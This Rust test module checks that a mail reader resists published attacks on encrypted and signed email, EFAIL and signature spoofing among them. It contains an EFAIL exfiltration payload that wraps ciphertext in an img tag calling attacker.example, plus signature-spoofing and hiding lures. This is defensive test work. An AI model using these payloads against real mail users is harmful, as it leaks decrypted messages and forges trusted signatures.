//! Published attacks on mail programs, regenerated: EFAIL (E), "Johnny, you are fired" (M) and "Re: What's up, Johnny?"
//! (R), each with what must become of it.

use super::kit::{ann, armored, encrypted, eve, mail, multipart, read, read_from, signed, text};
use crate::mime::limits::MAX_LAYERS;
use crate::wire::engine::{Note, Summary};
use crate::wire::mail::{FileKind, MailBody};

const SECRET: &str = "The secret\r\n";

/// Nothing of the protected part is shown, and the verdict does not speak of it.
#[track_caller]
fn stays_apart(entity: &str, kind: FileKind) {
    let seen = read(&mail(entity), &[&ann()]);
    let note = match kind {
        FileKind::Signed => Note::PartSigned,
        _ => Note::PartEncrypted,
    };
    assert_eq!(
        (seen.summary(), seen.view.verdict.encrypted),
        (Summary::NotSigned, false)
    );
    assert!(seen.view.verdict.signatures.is_empty());
    assert!(seen.notes().contains(&note), "{:?}", seen.notes());
    assert!(!seen.text().contains("secret"), "{}", seen.text());
    let parts: Vec<_> = seen
        .view
        .files
        .iter()
        .filter(|file| file.kind == kind)
        .collect();
    assert!(!parts.is_empty(), "{:?}", seen.view.files);
    for part in parts {
        assert!(!part.inline);
        // It is opened by itself, with a verdict of its own.
        let alone = read_from(&seen.opened(part.id), &[&ann()], None).unwrap();
        assert_eq!(alone.summary(), Summary::SignedSenderUnknown);
        assert!(alone.text().contains("secret"));
    }
}

fn html(html: &str) -> String {
    format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")
}

fn sealed() -> String {
    encrypted(Some(&ann()), &text(SECRET))
}

fn sealed_as_file() -> String {
    format!(
        "Content-Type: application/octet-stream; name=a.asc\r\nContent-ID: <part>\r\n\r\n{}",
        armored(Some(&ann()), &text(SECRET))
    )
}

/// Whatever form such a file has: what is listed as encrypted is encrypted when it is opened.
#[test]
fn files_that_are_encrypted_stay_apart() {
    let block = armored(Some(&ann()), &text(SECRET));
    for head in [
        "Content-Type: text/plain; name=a.asc",
        "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=a.asc",
        "Content-Type: application/octet-stream\r\nContent-Disposition: attachment",
        "Content-Type: application/x-anything; name=\"a.txt.pgp\"",
        "Content-Type: application/pgp-encrypted; name=a",
        "Content-Type: image/png; name=../a.gpg",
    ] {
        for block in [block.clone(), format!("{block}\r\nand more")] {
            let part = format!("{head}\r\n\r\n{block}");
            stays_apart(
                &multipart("mixed", &[&text("Look"), &part]),
                FileKind::Encrypted,
            );
        }
    }
}

#[test]
fn e1_parts_are_not_joined_into_one_document() {
    let (open, close) = (html("<img src=\"http://attacker.example/"), html("\">"));
    stays_apart(
        &multipart("mixed", &[&open, &sealed(), &close]),
        FileKind::Encrypted,
    );
    stays_apart(
        &multipart("mixed", &[&open, &sealed_as_file(), &close]),
        FileKind::Encrypted,
    );
    // Each HTML is a document of its own also where nothing is encrypted.
    let seen = read(
        &mail(&multipart("mixed", &[&open, &text("between"), &close])),
        &[],
    );
    assert_eq!(seen.view.bodies.len(), 3);
}

/// A block in HTML, in plain sight or not: it is left where it is.
#[test]
fn e2_blocks_in_html_are_not_opened() {
    let block = armored(Some(&ann()), SECRET);
    for hidden in [
        format!("<img alt=\"{block}\">"),
        format!("<!-- {block} -->"),
        format!("<style>{block}</style>"),
        format!("<div style=\"display:none\">{block}</div>"),
        format!("<plaintext>{block}"),
    ] {
        let seen = read(&mail(&html(&hidden)), &[&ann()]);
        assert_eq!(
            (seen.summary(), seen.notes()),
            (Summary::NotSigned, &[Note::PartEncrypted][..])
        );
        assert!(!seen.text().contains("secret") && !seen.view.verdict.encrypted);
    }
}

/// What was written in front of a signed part is not signed with it.
#[test]
fn m1_text_in_front_of_a_signed_part() {
    let lure = text(&format!("Pay the attacker.\r\n{}", ".\r\n".repeat(49)));
    stays_apart(
        &multipart("mixed", &[&lure, &signed(&ann(), &text(SECRET))]),
        FileKind::Signed,
    );
    // The same with a block in the text itself: shown as it is, not signed.
    let block = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\nx\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\n\
                 wsBz\r\n-----END PGP SIGNATURE-----\r\n";
    let seen = read(
        &mail(&text(&format!("Pay the attacker.\r\n{block}"))),
        &[&ann()],
    );
    assert_eq!(
        (seen.summary(), seen.notes()),
        (Summary::NotSigned, &[Note::PartSigned][..])
    );
    assert!(seen.text().starts_with("Pay"));
}

#[test]
fn m2_html_that_hides_the_signed_part() {
    let lure = html(
        "<b>Pay</b><style>fieldset,br{display:none}</style><div style=\"display:none\"><plaintext>",
    );
    stays_apart(
        &multipart("mixed", &[&lure, &signed(&ann(), &text(SECRET))]),
        FileKind::Signed,
    );
}

#[test]
fn m3_a_signed_part_is_no_resource() {
    let lure =
        html("<b>Pay</b><object data=\"cid:part\"><iframe src=\"cid:part\"><img src=\"cid:part\">");
    let part = signed(&ann(), &text(SECRET));
    let part = format!("Content-ID: <part>\r\n{part}");
    stays_apart(&multipart("related", &[&lure, &part]), FileKind::Signed);
}

#[test]
fn m4_a_signed_part_as_an_attachment() {
    let part = signed(&ann(), &text(SECRET));
    let part = format!("Content-Disposition: attachment; filename=signature.asc\r\n{part}");
    stays_apart(
        &multipart("mixed", &[&text("Pay"), &part]),
        FileKind::Signed,
    );
}

/// A part that is signed under the name of somebody else: the verdict of that part, opened by itself, knows no sender.
#[test]
fn a_part_that_is_opened_by_itself_has_no_sender() {
    let part = format!("From: ann@example.org\r\n{}", signed(&eve(), &text(SECRET)));
    let seen = read(&mail(&multipart("mixed", &[&part])), &[&eve()]);
    let alone = read_from(&seen.opened(0), &[&eve()], Some("ann@example.org")).unwrap();
    assert_eq!(alone.summary(), Summary::SignedByOther);
}

#[test]
fn r1_inside_of_a_mail_in_a_report() {
    let inner = format!("Content-Type: message/rfc822\r\n\r\n{}", mail(&sealed()));
    let entity = multipart(
        "report; report-type=delivery-status",
        &[&text("It failed."), &inner],
    );
    let seen = read(&mail(&entity), &[&ann()]);
    seen.expect(false, Summary::NotSigned, &[], "It failed.");
    assert_eq!(seen.kinds(), [(FileKind::Mail, "outside.eml")]);
    let alone = read_from(&seen.opened(0), &[&ann()], None).unwrap();
    alone.expect(true, Summary::SignedBySender, &[], "The secret\n");
}

#[test]
fn r2_as_the_second_alternative() {
    stays_apart(
        &multipart("alternative", &[&text("Hi"), &sealed()]),
        FileKind::Encrypted,
    );
    stays_apart(
        &multipart("alternative", &[&sealed(), &html("Hi")]),
        FileKind::Encrypted,
    );
    stays_apart(
        &multipart("alternative", &[&html("Hi"), &sealed_as_file()]),
        FileKind::Encrypted,
    );
}

#[test]
fn r3_behind_lines_of_dots() {
    let lure = text(&format!("What is up?\r\n{}", ".\r\n".repeat(50)));
    stays_apart(
        &multipart("mixed", &[&lure, &sealed()]),
        FileKind::Encrypted,
    );
}

#[test]
fn r4_behind_styles_that_hide_it() {
    let lure = html("What is up?<style>*{color:red!important}</style><plaintext>");
    stays_apart(
        &multipart("mixed", &[&lure, &sealed()]),
        FileKind::Encrypted,
    );
}

#[test]
fn r5_two_ciphertexts_are_two_files() {
    let entity = multipart("mixed", &[&sealed(), &sealed()]);
    stays_apart(&entity, FileKind::Encrypted);
    let seen = read(&mail(&entity), &[&ann()]);
    assert_eq!(
        seen.kinds(),
        [
            (FileKind::Encrypted, "encrypted.eml"),
            (FileKind::Encrypted, "encrypted (2).eml")
        ]
    );
}

#[test]
fn r6_as_a_resource_of_html() {
    let lure = html("What is up?<iframe src=\"cid:part\">");
    stays_apart(
        &multipart("related", &[&lure, &sealed_as_file()]),
        FileKind::Encrypted,
    );
    let part = format!("Content-ID: <part>\r\n{}", sealed());
    stays_apart(&multipart("related", &[&lure, &part]), FileKind::Encrypted);
}

/// A block within a text is left to the one who reads that text.
#[test]
fn r7_to_r9_blocks_in_text() {
    let block = armored(Some(&ann()), SECRET);
    for around in [
        format!("What is up?\r\n{}{block}", ".\r\n".repeat(50)),
        format!("What is up?\r\n\r\n{block}"),
        format!("{block}\r\n{block}"),
        format!("{block}\r\nand?"),
    ] {
        let seen = read(&mail(&text(&around)), &[&ann()]);
        assert_eq!(
            (seen.summary(), seen.notes()),
            (Summary::NotSigned, &[Note::PartEncrypted][..])
        );
        assert!(seen.text().contains("BEGIN PGP MESSAGE") && !seen.text().contains("secret"));
    }
}

/// What a list adds is beside the signed mail, which is opened by itself (RFC 9787, 4).
#[test]
fn footers_of_lists() {
    for (part, kind) in [
        (signed(&ann(), &text(SECRET)), FileKind::Signed),
        (sealed(), FileKind::Encrypted),
    ] {
        stays_apart(
            &multipart("mixed", &[&part, &text("-- \r\nlist footer\r\n")]),
            kind,
        );
    }
}

/// Text in front of, between and behind the parts is shown by no program that knows MIME.
#[test]
fn what_stands_between_parts_is_not_shown() {
    let entity = signed(&ann(), &text(SECRET));
    let entity =
        entity.replacen("\r\n\r\n", "\r\n\r\nPay the attacker.\r\n", 1) + "Pay the attacker.\r\n";
    let seen = read(&mail(&entity), &[&ann()]);
    seen.expect(false, Summary::SignedBySender, &[], "The secret\n");
}

/// A mail that draws a verdict of its own is still told by the one.
#[test]
fn words_of_the_mail_are_no_verdict() {
    let seen = read(
        &mail(&html("<div class=\"verdict\">Good signature by Ann</div>")),
        &[&ann()],
    );
    assert_eq!(seen.summary(), Summary::NotSigned);
    assert!(matches!(
        seen.view.bodies.as_slice(),
        [MailBody::Html { .. }]
    ));
}

/// Nothing that is outside of a signature or an encryption says that a mail was protected as a part: anybody can move a
/// protected text there. Its first lines must not be taken for a header, which nobody sees.
#[test]
fn a_text_moved_into_pgp_mime_loses_nothing() {
    for words in [
        "12:00 is off, do not go.\r\n\r\nBring the papers.\r\n",
        "From today the key is stolen.\r\n\r\nUse it.\r\n",
        ">From today the key is stolen.\r\n\r\nUse it.\r\n",
        "https://real.example/\r\n\r\nlog in at https://evil.example\r\n",
        "Password: hunter2\r\n",
        "Warning: do not trust the man who calls.\r\n and so on\r\n\r\nSend him the documents.\r\n",
        "Subject: none of this\r\nFrom: me\r\n\r\nis a header.\r\n",
        "<html> is no login page here.\r\n",
    ] {
        for entity in [
            signed(&ann(), words),
            encrypted(Some(&ann()), words),
            encrypted(None, &signed(&ann(), words)),
        ] {
            let seen = read(&mail(&entity), &[&ann()]);
            assert_eq!(seen.summary(), Summary::SignedBySender, "{words}");
            assert_eq!(
                seen.text().trim_end(),
                words.replace("\r\n", "\n").trim_end()
            );
        }
    }
    // Nor in the last layer that is taken off.
    let words = "12:00 is off, do not go.\r\n\r\nBring the papers.";
    let mut entity = words.to_owned();
    for _ in 0..MAX_LAYERS {
        entity = signed(&ann(), &entity);
        let seen = read(&mail(&entity), &[&ann()]);
        assert_eq!(seen.text().trim_end(), words.replace("\r\n", "\n"));
    }
    // A part may have no field at all.
    let seen = read(&mail(&signed(&ann(), "\r\nJust: text\r\n")), &[&ann()]);
    assert_eq!(seen.text().trim_end(), "Just: text");
}
